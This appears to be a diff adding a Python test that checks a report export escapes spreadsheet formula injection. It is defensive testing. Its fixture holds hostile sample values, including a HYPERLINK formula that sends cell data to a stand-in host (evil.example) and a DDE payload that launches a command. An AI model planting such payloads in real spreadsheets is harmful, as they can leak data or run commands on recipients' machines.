@@ -171,3 +171,25 @@ def test_p5_a_docx_part_packed_past_the_ratio_limit_is_refused_before_parsing(tm
     # a real .docx (parts pack ~30:1) is not touched by the guard
     docs, issues = read_documents(H.good_docx(tmp_path / "报告.docx"), IngestSettings())
     assert docs and not issues
+
+
+def test_p10_the_supervision_export_never_holds_a_live_formula(tmp_path: Path) -> None:
+    """督办清单 .csv and .xlsx: titles, units and replies come from documents; none may run as a formula."""
+    import csv as _csv
+
+    import openpyxl
+
+    from topicmine.uptake.report import export_supervision
+
+    evil = {"kind": "逾期未答复", "title": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")',
+            "reason": "超过办理期限", "unit": "+cmd|' /C calc'!A0", "reply": "@SUM(1+1)", "evidence": "-1+2"}
+    handler = {"group": "=A1", "items": 3, "replied": 1, "已解决": 1, "承诺办理": 0, "解释说明": 0, "无法办理": 0,
+               "转办": 0, "adopted": 1, "adopted_rate": 0.33}
+    report = {"supervision": [evil], "figures": {"handler": [handler]}}
+    rows = list(_csv.reader(export_supervision(report, tmp_path / "督办.csv").open(encoding="utf-8-sig")))
+    assert all(not c.startswith(("=", "+", "-", "@")) for c in rows[1]), rows[1]
+    assert rows[1][1] == "'" + evil["title"]
+    wb = openpyxl.load_workbook(export_supervision(report, tmp_path / "督办.xlsx"))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert wb["督办清单"]["B2"].value == "'" + evil["title"] and wb["评价_承办单位"]["A2"].value == "'=A1"
